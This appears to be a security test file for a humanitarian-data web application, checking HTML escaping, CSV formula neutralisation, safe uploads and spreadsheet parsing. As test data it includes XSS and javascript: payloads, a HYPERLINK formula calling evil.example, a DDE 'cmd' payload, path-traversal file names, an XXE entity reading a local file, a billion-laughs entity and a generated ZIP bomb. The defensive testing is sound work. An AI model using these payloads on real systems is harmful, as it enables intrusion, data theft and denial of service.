"""Hostile input (issue 6, point 5): what users wrote is escaped on every page, CSV downloads
cannot run formulas, uploads are limited and stored safely, spreadsheets are read without
executing anything, fetching anything or unpacking a ZIP bomb, and every response carries the
security headers.

Places (English and Arabic names), sources, organisations, sectors, activities, besieging parties,
the actor and reason of an edit hold script tags, attribute breakouts, ``javascript:`` URLs,
``</script>`` and Arabic with a right-to-left override; every kind of page and the API are
fetched and parsed: no script, event handler or ``javascript:`` link may come out of the data.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import io
import json
import re
import struct
import threading
import zipfile
import zlib
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from lagebild.ingest import ImportFailed, ImportOptions, import_file
from lagebild.ingest import read as reader
from lagebild.ingest.edit import parse_edits
from lagebild.model import Place
from lagebild.publish import render, tables
from lagebild.store import Store
from lagebild.store.audit import edit_record
from lagebild.store.places import all_places
from lagebild.store.summary import row_counts
from lagebild.web import WebConfig, create_app, security
from lagebild.web import uploads as upload

XSS = "<script>alert(1)</script>"
ATTR = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(1)"
RLO = "حلب \u202egpj.exe"  # Arabic, then a right-to-left override
BREAKOUT = "</script><script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example","x")'
PAYLOADS = (XSS, ATTR, JS_URL, RLO, BREAKOUT, FORMULA)
AS_OF = "2017-02-28"

PLACES = [
    ["#adm1+code", "#adm1+name+i_en", "#adm1+name+i_ar", "#adm2+code", "#adm2+name+i_en",
     "#adm2+name+i_ar", "#adm3+code", "#adm3+name+i_en", "#adm3+name+i_ar", "#adm4+code",
     "#adm4+name+i_en", "#adm4+name+i_ar", "#geo+lat", "#geo+lon"],
    ["SY02", "Aleppo " + XSS, RLO + XSS, "SY0200", ATTR, "جبل " + ATTR, "SY020000", JS_URL, RLO,
     "C1007", BREAKOUT, RLO + BREAKOUT, "36.2", "37.15"],
    ["SY02", "Aleppo " + XSS, RLO + XSS, "SY0200", ATTR, "جبل " + ATTR, "SY020000", JS_URL, RLO,
     "C1003", FORMULA, RLO, "36.25", "37.1"],
]  # fmt: skip
FIGURES = [
    ["#adm4+code", "#population", "#inneed", "#date", "#meta+source"],
    ["C1007", "50000", "40000", "2017-01-15", XSS],
    ["C1003", "20000", "15000", "2017-01-15", ATTR],
    ["C1007", "51000", "42000", "2017-01-15", FORMULA],
]
ACCESS = [
    ["#adm4+code", "#access", "#group+besieging", "#date+start", "#meta+source"],
    ["C1007", "besieged", XSS + ATTR, "2016-07-01", RLO],
]
DELIVERIES = [
    ["#org+impl", "#org+reporting", "#org+funder", "#sector", "#activity", "#item+name",
     "#reached+ind", "#status", "#date+end", "#adm4+code", "#meta+source"],
    [XSS, ATTR, JS_URL, "Food Security", BREAKOUT, FORMULA, "500", "completed", "2017-02-10",
     "C1003", RLO],
    [FORMULA, XSS, ATTR, XSS, ATTR, XSS, "300", "completed", "2017-02-12", "C1003", XSS],
]  # fmt: skip


def _csv(folder: Path, name: str, rows: list[list[str]]) -> Path:
    path = folder / name
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return path


@pytest.fixture
def hostile(store: Store, tmp_path: Path) -> Store:
    """A store whose every user-written field the pages show holds a payload."""
    for name, rows in [
        ("places.csv", PLACES),
        ("figures.csv", FIGURES),
        ("access.csv", ACCESS),
        ("deliveries.csv", DELIVERIES),
    ]:
        # A sector word no vocabulary holds is refused: the override makes the payload a sector.
        import_file(store, _csv(tmp_path, name, rows), ImportOptions(sectors={XSS: XSS}))
    # an edit by a hostile actor, for a hostile reason
    edit_record(store.as_actor(ATTR), "figure", 1, parse_edits("figure", ["value=40001"]), XSS)
    return store


def _place(store: Store, pcode: str) -> Place | None:
    return next((p for p in all_places(store) if p.pcode == pcode), None)


def _client(store: Store, **config: Any) -> Iterator[TestClient]:
    url = store.engine.url.render_as_string(hide_password=False)
    with TestClient(create_app(WebConfig(db=url, **config))) as client:
        yield client


@pytest.fixture
def client(hostile: Store) -> Iterator[TestClient]:
    yield from _client(hostile)


# ---- what a page may contain --------------------------------------------------------------------

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
_BIDI_SAFE = {"bdi", "title", "option", "textarea"}


class PageAudit(HTMLParser):
    """Everything in a page that could run: scripts not from /static/ (a JSON data block is
    fine), event handler attributes, script URLs, and elements the pages never use; and text
    with a right-to-left override outside an element that isolates it (``dir`` or ``<bdi>``)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self._open: list[tuple[str, bool]] = []  # (tag, isolates its text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in _URL_ATTRIBUTES and re.match(r"\s*(javascript|vbscript|data):", value, re.I):
                if not (tag == "link" and value.startswith("data:image/")):
                    self.problems.append(f"<{tag} {name}={value!r}>")
            self.text.append(value)
        if tag == "script":
            kind = values.get("type", "")
            if kind != "application/json" and not values.get("src", "").startswith("/static/"):
                self.problems.append(f"<script {values}>")
        if tag in ("img", "iframe", "object", "embed", "base", "frame", "image"):
            self.problems.append(f"<{tag} {values}>")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append(f"<meta {values}>")
        isolates = tag in _BIDI_SAFE or "dir" in values
        if tag not in ("br", "hr", "input", "link", "meta", "img", "col", "wbr", "source"):
            self._open.append((tag, isolates))

    def handle_endtag(self, tag: str) -> None:
        for i in range(len(self._open) - 1, -1, -1):
            if self._open[i][0] == tag:
                del self._open[i:]
                break

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if "\u202e" in data and not any(isolates for _, isolates in self._open):
            where = "/".join(tag for tag, _ in self._open)
            self.problems.append(f"right-to-left override not isolated in {where}: {data!r}")


def audit(html: str) -> PageAudit:
    found = PageAudit()
    found.feed(html)
    found.close()
    return found


def assert_safe(page: Any, *shown: str) -> None:
    """The page runs nothing the data brought, and shows ``shown`` as text."""
    assert page.headers["content-type"].startswith("text/html"), page.headers["content-type"]
    for raw in (XSS, ATTR, BREAKOUT, "<img src=x", "<script>alert"):
        assert raw not in page.text, f"{raw!r} unescaped in {page.url}"
    found = audit(page.text)
    assert found.problems == [], f"{page.url}: {found.problems}"
    text = "".join(found.text)
    for payload in shown:
        assert payload in text, f"{payload!r} is not shown on {page.url}"


PAGES = {
    "overview": ("/?as_of=" + AS_OF, (XSS, ATTR, BREAKOUT, FORMULA)),
    "map": ("/map?level=adm4&as_of=" + AS_OF, ()),
    "map-sector": ("/map?level=adm4&sector=" + quote(BREAKOUT) + "&as_of=" + AS_OF, ()),
    "gaps": ("/gaps?level=adm4&as_of=" + AS_OF, (BREAKOUT, FORMULA, XSS, ATTR)),
    "gaps-sector": ("/gaps?level=adm4&sector=" + quote(XSS) + "&as_of=" + AS_OF, (XSS,)),
    "places": ("/places", (XSS, ATTR, JS_URL, BREAKOUT, FORMULA)),
    "places-search": ("/places?q=" + quote(XSS), (XSS, BREAKOUT)),
    "place-community": ("/places/C1007?as_of=" + AS_OF, PAYLOADS),
    "place-arabic": ("/places/C1007?lang=ar&as_of=" + AS_OF, (RLO + BREAKOUT, RLO + XSS)),
    "place-delivered": ("/places/C1003?as_of=" + AS_OF, (FORMULA, XSS, ATTR, RLO)),
    "place-governorate": ("/places/SY02?as_of=" + AS_OF, ("Aleppo " + XSS, ATTR, RLO)),
    "history": ("/places/SY02/history", (XSS, ATTR)),
    "explain-need": (f"/explain?pcode=C1007&indicator=people_in_need&as_of={AS_OF}",
                     (XSS, BREAKOUT)),
    "explain-reached": (f"/explain?pcode=SY02&indicator=reached&as_of={AS_OF}",
                        (XSS, FORMULA, RLO)),
    "error-404-place": ("/places/" + quote(XSS, safe=""), (XSS,)),
    "error-404-path": ("/" + quote(BREAKOUT, safe=""), (BREAKOUT,)),
    "error-422": ("/gaps?as_of=" + quote(XSS, safe=""), (XSS,)),
    "error-422-explain": ("/explain?pcode=" + quote(ATTR) + "&indicator=" + quote(XSS), (XSS,)),
}  # fmt: skip


@pytest.mark.parametrize(
    "html",
    [
        "<p>" + XSS + "</p>",
        '<a href="x' + ATTR + '</a>',
        '<a href=" JavaScript:alert(1)">x</a>',
        '<script type="application/json">{"a": "' + BREAKOUT + '"}</script>',
        "<p>" + RLO + "</p>",
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
        '<div onmouseover="alert(1)">x</div>',
    ],
)
def test_page_audit_finds_what_could_run(html: str) -> None:
    """The checker the page tests rest on: each of these is caught."""
    assert audit("<html><body>" + html + "</body></html>").problems != []


def test_page_audit_passes_what_is_harmless() -> None:
    html = (
        '<script type="application/json">{"a": "\\u003c/script\\u003e"}</script>'
        '<script src="/static/js/map.js"></script><p dir="auto">' + RLO + "</p>"
        "<bdi>" + RLO + "</bdi><p>&lt;script&gt;alert(1)&lt;/script&gt; javascript:x</p>"
    )
    assert audit(html).problems == []


@pytest.mark.parametrize("name", PAGES)
def test_every_page_kind_escapes_what_users_wrote(client: TestClient, name: str) -> None:
    path, shown = PAGES[name]
    page = client.get(path)
    assert page.status_code in (200, 404, 422), (path, page.status_code)
    if name.startswith("error") != (page.status_code != 200):
        pytest.fail(f"{path} answered {page.status_code}")
    assert_safe(page, *shown)


def test_map_configuration_cannot_break_out_of_its_script_element(hostile: Store) -> None:
    """The configuration's text (here a tile URL an administrator got wrong) is JSON with
    ``<`` escaped, so that ``</script>`` cannot end the element and start a script."""
    tiles = "https://x.example.org/{z}/" + BREAKOUT
    for client in _client(hostile, tile_url=tiles):
        page = client.get("/map", params={"sector": BREAKOUT, "level": "adm4", "as_of": AS_OF})
        assert page.status_code == 200
        assert_safe(page)
        block = re.search(
            r'<script type="application/json" id="map-config">(.*?)</script>', page.text, re.S
        )
        assert block, "no map configuration"
        config = json.loads(block.group(1))  # the whole object survived: nothing ended it
        assert config["tiles"] == tiles and "alert" in config["data"]
        assert "</" not in block.group(1)


def test_import_report_escapes_file_name_source_and_values(client: TestClient) -> None:
    four_w = [
        ["#org+impl", "#sector", "#status", "#adm4+code", "#reached+ind", "#date+end"],
        [XSS, ATTR, "completed", "C1007", BREAKOUT, "2017-02-20"],
        [JS_URL, "Food", RLO, "C1003", "100", XSS],
    ]
    body = io.StringIO()
    csv.writer(body).writerows(four_w)
    page = client.post(
        "/import",
        files={"file": (ATTR + ".csv", body.getvalue().encode("utf-8"), "text/csv")},
        data={"source": XSS, "sheet": BREAKOUT},
    )
    assert page.status_code == 200
    assert_safe(page, BREAKOUT, XSS)
    assert "onerror=alert(1)" in "".join(audit(page.text).text)  # the file name, as text


def test_api_json_returns_the_payloads_intact_as_json(client: TestClient) -> None:
    for path in (
        "/api/places?q=alert",
        f"/api/deliveries?pcode=SY02&as_of={AS_OF}",
        "/api/figures?pcode=C1007",
        f"/api/gaps?level=adm4&as_of={AS_OF}",
        f"/api/map?level=adm4&as_of={AS_OF}",
        f"/api/explain?pcode=C1007&indicator=people_in_need&as_of={AS_OF}",
        "/api/places/SY02/history",
    ):
        response = client.get(path)
        assert response.status_code == 200, (path, response.status_code)
        assert response.headers["content-type"].split(";")[0] in (
            "application/json",
            "application/geo+json",
        ), path
        assert response.headers["x-content-type-options"] == "nosniff"
        data = json.dumps(response.json(), ensure_ascii=False)
        assert any(p in data for p in PAYLOADS), path
    missing = client.get("/api/places/" + quote(XSS, safe=""))
    assert missing.status_code == 404 and missing.headers["content-type"] == "application/json"


def test_csv_and_hxl_downloads_neutralise_formulas(client: TestClient) -> None:
    for path in (
        f"/api/deliveries?pcode=SY02&as_of={AS_OF}&format=csv",
        f"/api/gaps?level=adm4&as_of={AS_OF}&format=hxl",
        "/api/places?format=csv",
    ):
        response = client.get(path)
        assert response.status_code == 200, path
        cells = [c for row in csv.reader(io.StringIO(response.text)) for c in row]
        assert "'" + FORMULA in cells, path
        assert not [c for c in cells if c[:1] in ("=", "@", "+") or c[:1] in "\t\r" and c], path


def test_to_csv_prefixes_formula_starts_and_keeps_negative_numbers() -> None:
    columns = [tables.Col("v", "Value", "#value")]
    values = [
        "=1+1", "+1+2", "-1+2", "@SUM(A1:A9)", "\tx", "\rx", "=cmd|' /C calc'!A0",
        -5, -2.5, "-5", "-12.25", "+7", "plain", "Aleppo = حلب", "", "a\r=1+1", "b\r\n@x",
    ]  # fmt: skip
    out = render.to_csv(columns, [{"v": v} for v in values])
    cells = [row[0] for row in csv.reader(io.StringIO(out, newline=""))][1:]
    assert cells == [
        "'=1+1", "'+1+2", "'-1+2", "'@SUM(A1:A9)", "'\tx", "'\nx", "'=cmd|' /C calc'!A0",
        "-5", "-2.5", "-5", "-12.25", "+7", "plain", "Aleppo = حلب", "", "a\n=1+1", "b\n@x",
    ]  # fmt: skip
    # a carriage return inside a cell starts no row of its own (where a formula would be bare)
    assert "\r" not in out


def test_every_template_is_autoescaped() -> None:
    from lagebild.web.context import templates

    folder = Path(upload.__file__).parent / "templates"
    names = sorted(p.name for p in folder.glob("*.html"))
    assert names and all(templates.env.autoescape(name) for name in names)  # type: ignore
    for name in names:
        source = (folder / name).read_text(encoding="utf-8")
        assert "autoescape false" not in source.replace(" ", " "), name
        assert " style=" not in source, f"{name}: an inline style (the CSP refuses them)"
        assert not re.search(r"<script(?![^>]*(\bsrc=|application/json))", source), name


# ---- security headers ---------------------------------------------------------------------------


def test_even_the_servers_own_500_carries_the_security_headers(sqlite_store: Store) -> None:
    url = sqlite_store.engine.url.render_as_string(hide_password=False)
    app = create_app(WebConfig(db=url))

    @app.get("/boom")
    def boom() -> None:
        raise RuntimeError("a bug")

    with TestClient(app, raise_server_exceptions=False) as client:
        response = client.get("/boom")
    assert response.status_code == 500
    assert response.headers["x-frame-options"] == "DENY"
    assert "script-src 'self'" in response.headers["content-security-policy"]


@pytest.mark.parametrize(
    "path",
    ["/", "/map", "/places/C1007", "/import", "/api/gaps", "/static/js/map.js",
     "/places/NOPE", "/api/places/NOPE", "/gaps?as_of=x"],
)  # fmt: skip
def test_every_response_carries_the_security_headers(client: TestClient, path: str) -> None:
    response = client.get(path)
    headers = response.headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "same-origin"
    policy = dict(
        (part.split(" ", 1) + [""])[:2] for part in headers["content-security-policy"].split("; ")
    )
    assert policy["script-src"] == "'self'"
    assert policy["style-src"] == "'self'"
    assert policy["object-src"] == "'none'"
    assert policy["base-uri"] == "'self'"
    assert policy["frame-ancestors"] == "'none'"
    assert policy["img-src"] == "'self' data:"


def test_tile_server_is_the_only_other_image_source(hostile: Store) -> None:
    tiles = "https://{s}.tile.example.org/{z}/{x}/{y}.png"
    for client in _client(hostile, tile_url=tiles):
        policy = client.get("/map").headers["content-security-policy"]
        assert "img-src 'self' data: https://*.tile.example.org;" in policy
        assert "script-src 'self';" in policy
    assert security.tile_source("https://tiles.example.org:8443/{z}/{x}/{y}.png") == (
        "https://tiles.example.org:8443"
    )
    assert security.tile_source("javascript:alert(1)//{z}") is None
    assert security.tile_source("https://a.{s}.example.org/{z}") is None
    assert security.tile_source("https://x.org; script-src *") is None


def test_api_reader_alone_may_run_its_own_inline_script(client: TestClient) -> None:
    page = client.get("/api/docs")
    assert page.status_code == 200
    scripts = re.findall(r"<script>(.*?)</script>", page.text, re.S)
    assert len(scripts) == 1
    digest = base64.b64encode(hashlib.sha256(scripts[0].encode()).digest()).decode()
    policy = page.headers["content-security-policy"]
    assert f"'sha256-{digest}'" in policy and "'unsafe-inline'" not in policy
    assert "'unsafe-inline'" not in client.get("/").headers["content-security-policy"]
    assert f"'sha256-{digest}'" not in client.get("/").headers["content-security-policy"]
    # Swagger UI comes from the package: the reader fetches nothing from another host.
    sources = re.findall(r'(?:src|href)="([^"]+)"', page.text)
    assert sources and all(s.startswith("/") for s in sources), sources
    for source in sources:
        assert client.get(source).status_code == 200, source
    assert "https://" not in policy and "cdn" not in policy


# ---- uploads ------------------------------------------------------------------------------------


def _multipart(boundary: str, name: str, chunks: int, chunk: bytes) -> Iterator[bytes]:
    yield (
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"source\"\r\n\r\nx\r\n"
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n"
        "Content-Type: text/csv\r\n\r\n"
    ).encode()
    for _ in range(chunks):
        yield chunk
    yield f"\r\n--{boundary}--\r\n".encode()


def test_streamed_upload_without_length_stops_being_read_at_the_limit(
    sqlite_store: Store,
) -> None:
    """A chunked body declares no length: it is refused once it passes the configured limit,
    and the rest of it is never read (nor stored)."""
    url = sqlite_store.engine.url.render_as_string(hide_password=False)
    limit = 256 * 1024
    app = create_app(WebConfig(db=url, max_upload_bytes=limit))
    boundary = "hostileboundary"
    chunk = b"1,2,3\n" * 10_000  # 60 kB
    body = _multipart(boundary, "big.csv", 1_000, chunk)  # 60 MB if read to the end
    read = 0
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        nonlocal read
        part = next(body, None)
        if part is None:
            return {"type": "http.request", "body": b"", "more_body": False}
        read += len(part)
        return {"type": "http.request", "body": part, "more_body": True}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/import",
        "raw_path": b"/import",
        "root_path": "",
        "query_string": b"",
        "headers": [
            (b"host", b"testserver"),
            (b"content-type", f"multipart/form-data; boundary={boundary}".encode()),
            (b"transfer-encoding", b"chunked"),
        ],
        "client": ("127.0.0.1", 1234),
        "server": ("testserver", 80),
        "state": {},
    }
    # In a thread of its own: a worker that ran a browser test keeps an event loop running in
    # the main thread, where asyncio.run would refuse to start.
    failed: list[BaseException] = []

    def serve() -> None:
        try:
            asyncio.run(app(scope, receive, send))
        except BaseException as exc:  # noqa: BLE001 - re-raised below
            failed.append(exc)

    worker = threading.Thread(target=serve)
    worker.start()
    worker.join()
    if failed:
        raise failed[0]
    start = next(m for m in sent if m["type"] == "http.response.start")
    page = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    assert start["status"] == 413 and b'data-code="too-large"' in page
    # the file, the tag and sector maps, an XLSForm and the form fields (web/imports.py)
    body_limit = limit + upload.MAX_TAG_MAP_BYTES + upload.MAX_XLSFORM_BYTES + (1 << 20)
    assert read <= body_limit + len(chunk), f"read {read:,} bytes of a {limit:,}-byte limit"
    uploads = getattr(app.state, "uploads", None)
    assert uploads is None or not any(uploads.root.iterdir())


def test_upload_limit_comes_from_the_configuration(sqlite_store: Store) -> None:
    for client in _client(sqlite_store, max_upload_bytes=3 * 1024 * 1024):
        assert "At most 3 MB." in client.get("/import").text
        page = client.post(
            "/import", files={"file": ("big.csv", b"1\n" * (2 * 1024 * 1024), "text/csv")}
        )
        assert page.status_code == 413 and 'data-code="too-large"' in page.text
        assert "3 MB" in page.text
    assert WebConfig().max_upload_bytes is None and upload.MAX_UPLOAD_BYTES == 200 * 1024 * 1024


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd.csv", "..\\..\\win.ini.csv", "a\x00b.csv", "x" * 300 + ".csv",
     "/etc/cron.d/x.csv", "..", "\u202ecsv.exe.csv", "CON.csv"],
)  # fmt: skip
def test_uploaded_file_stays_in_its_generated_folder(sqlite_store: Store, name: str) -> None:
    for client in _client(sqlite_store):
        page = client.post(
            "/import",
            files={"file": (name, b"#adm1+code,#adm1+name\nSY02,Aleppo\n", "text/csv")},
        )
        if page.status_code == 400:  # refused for its extension ("..")
            assert 'data-code="extension"' in page.text
            continue
        assert page.status_code == 200, page.text[:300]
        root: Path = client.app.state.uploads.root  # type: ignore[attr-defined]
        files = [p for p in root.rglob("*") if p.is_file()]
        stored = [p for p in files if p.parent.name == "file"]
        assert len(stored) == 1
        path = stored[0]
        assert path.resolve().is_relative_to(root.resolve())
        assert path.parent.parent.parent == root  # <root>/<token>/file/<name>
        assert re.fullmatch(r"[A-Za-z0-9_-]{20,64}", path.parent.parent.name)
        assert "\x00" not in path.name and "/" not in path.name and len(path.name) <= 120
        static = Path(upload.__file__).parent / "static"
        assert not path.resolve().is_relative_to(static.resolve())


# ---- spreadsheets: formulas, external entities, ZIP bombs ---------------------------------------


def _zip_entry(name: str, data: bytes) -> tuple[str, int, int, bytes]:
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return name, zlib.crc32(data), len(data), packer.compress(data) + packer.flush()


def _write_zip(path: Path, entries: list[tuple[str, int, int, bytes]]) -> None:
    """A ZIP archive written by hand, so that a part can say what it likes about its size."""
    out = bytearray()
    central = bytearray()
    for name, crc, size, packed in entries:
        raw = name.encode()
        offset = len(out)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(packed), size,
                           len(raw), 0) + raw + packed  # fmt: skip
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc,
                               len(packed), size, len(raw), 0, 0, 0, 0, 0, offset)  # fmt: skip
        central += raw
    start = len(out)
    out += central
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                       len(central), start, 0)  # fmt: skip
    path.write_bytes(bytes(out))


def _workbook(path: Path, rows: list[list[Any]]) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


GAZETTEER_ROWS: list[list[Any]] = [
    ["#adm1+code", "#adm1+name+i_en", "#adm1+name+i_ar"],
    ["SY02", "Aleppo", "حلب"],
    ["SY07", "Idleb", "إدلب"],
]
SHEET = "xl/worksheets/sheet1.xml"


def _sheet_with(path: Path, tmp_path: Path, cells: str, prolog: str = "") -> Path:
    """An XLSX whose row 3 is ``cells`` (raw sheet XML), after an optional XML prolog."""
    parts = _parts(_workbook(tmp_path / "base.xlsx", GAZETTEER_ROWS))
    xml = parts[SHEET].decode()
    xml = re.sub(r'<row r="3">.*?</row>', f'<row r="3">{cells}</row>', xml, flags=re.S)
    parts[SHEET] = (prolog + xml).encode()
    _write_zip(path, [_zip_entry(name, data) for name, data in parts.items()])
    return path


def test_formulas_are_read_as_their_stored_values_never_run(store: Store, tmp_path: Path) -> None:
    """A formula cell is read as the value the spreadsheet stored (none: empty); a text cell
    that looks like a formula is text, and stays text in every CSV going out."""
    cells = (
        '<c r="A3" t="inlineStr"><is><t>SY07</t></is></c>'
        '<c r="B3" t="str"><f>HYPERLINK("http://evil.example/?"&amp;A1,"Idleb")</f>'
        "<v>Idleb</v></c>"
        "<c r=\"C3\" t=\"str\"><f>cmd|' /C calc'!A0</f><v>#N/A</v></c>"
    )
    path = _sheet_with(tmp_path / "formulas.xlsx", tmp_path, cells)
    import_file(store, path)
    idleb = _place(store, "SY07")
    assert idleb is not None and (idleb.name_en, idleb.name_ar) == ("Idleb", "#N/A")
    text = _workbook(tmp_path / "text.xlsx", [GAZETTEER_ROWS[0], ["SY05", "=1+1", "@SUM(1)"]])
    import openpyxl

    book = openpyxl.load_workbook(text)
    sheet = book.active
    assert sheet is not None
    sheet["B2"].data_type = "s"  # text that starts with '=', as a partner may type it
    book.save(text)
    import_file(store, text)
    place = _place(store, "SY05")
    assert place is not None and (place.name_en, place.name_ar) == ("=1+1", "@SUM(1)")
    rows = render.place_rows([place], {})
    out = render.to_csv(tables.place_columns(), rows, hxl=True)
    assert "'=1+1" in out and "'@SUM(1)" in out


def test_formula_without_a_stored_value_is_empty(sqlite_store: Store, tmp_path: Path) -> None:
    path = _workbook(tmp_path / "f.xlsx", [GAZETTEER_ROWS[0], ["SY03", "=1+1", "x"]])
    import_file(sqlite_store, path)
    place = _place(sqlite_store, "SY03")
    assert place is not None and place.name_en in (None, "SY03", "")  # never "2", never run


@pytest.mark.parametrize("entity", ["external", "billion-laughs"])
def test_xml_entities_are_refused_unresolved(
    store: Store, tmp_path: Path, entity: str
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-7731", encoding="utf-8")
    if entity == "external":
        prolog = (
            '<?xml version="1.0" encoding="UTF-8"?>'
            f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{secret}">]>'
        )
    else:
        laughs = "".join(
            f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
        )
        prolog = f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "lol">{laughs}]>'
    name = "xxe" if entity == "external" else "l9"
    cells = f'<c r="A3" t="inlineStr"><is><t>SY07</t></is></c><c r="B3" t="inlineStr"><is><t>&{name};</t></is></c>'  # noqa: E501
    path = _sheet_with(tmp_path / "entities.xlsx", tmp_path, cells, prolog)
    before = row_counts(store)
    with pytest.raises(ImportFailed) as failed:
        import_file(store, path)
    problem = failed.value.report.problems[0]
    assert problem.code == "unreadable" and "DOCTYPE" in problem.reason
    assert "TOP-SECRET" not in json.dumps([str(p) for p in failed.value.report.problems])
    assert _place(store, "SY07") is None and _place(store, "SY02") is None
    assert row_counts(store) == before


def test_zip_bomb_is_refused_before_it_is_unpacked(store: Store, tmp_path: Path) -> None:
    """A sheet that unpacks to 1 GiB from a 3 MB file."""
    parts = _parts(_workbook(tmp_path / "base.xlsx", GAZETTEER_ROWS))
    row = b'<row><c t="inlineStr"><is><t>SY02</t></is></c></row>' * 20_000
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(row) + packer.flush(zlib.Z_FULL_FLUSH)  # the same bytes each time
    repeats = (1 << 30) // len(row) + 1
    crc = 0
    for _ in range(repeats):
        crc = zlib.crc32(row, crc)
    bomb = (SHEET, crc, len(row) * repeats, block * repeats + packer.flush())
    entries = [_zip_entry(n, d) for n, d in parts.items() if n != SHEET] + [bomb]
    path = tmp_path / "bomb.xlsx"
    _write_zip(path, entries)
    assert path.stat().st_size < 5_000_000
    with pytest.raises(ImportFailed) as failed:
        import_file(store, path)
    problem = failed.value.report.problems[0]
    assert problem.code == "unreadable" and "refused before unpacking" in problem.reason
    assert "ZIP bomb" in problem.reason


def test_part_packed_too_tightly_is_refused(sqlite_store: Store, tmp_path: Path) -> None:
    """Under the total limit, but a thousand times packed: refused by the ratio."""
    parts = _parts(_workbook(tmp_path / "base.xlsx", GAZETTEER_ROWS))
    parts[SHEET] = parts[SHEET].replace(b"</sheetData>", b"</sheetData>" + b" " * (20 << 20))
    path = tmp_path / "tight.xlsx"
    _write_zip(path, [_zip_entry(n, d) for n, d in parts.items()])
    with pytest.raises(ImportFailed) as failed:
        import_file(sqlite_store, path)
    assert "times its packed size" in str(failed.value.report.problems[0].reason)


def test_part_lying_about_its_size_is_refused_as_damaged(
    sqlite_store: Store, tmp_path: Path
) -> None:
    parts = _parts(_workbook(tmp_path / "base.xlsx", GAZETTEER_ROWS))
    entries = [_zip_entry(n, d) for n, d in parts.items()]
    entries = [(n, c, 100 if n == SHEET else s, p) for n, c, s, p in entries]  # says 100 bytes
    path = tmp_path / "lying.xlsx"
    _write_zip(path, entries)
    with pytest.raises(ImportFailed) as failed:
        import_file(sqlite_store, path)
    assert "damaged ZIP archive" in failed.value.report.problems[0].reason


def test_real_workbook_passes_the_archive_checks(sqlite_store: Store, tmp_path: Path) -> None:
    path = _workbook(tmp_path / "places.xlsx", GAZETTEER_ROWS)
    with zipfile.ZipFile(path) as archive:
        reader.check_archive(path, archive)
    report = import_file(sqlite_store, path, ImportOptions())
    assert report.rows_written == 2
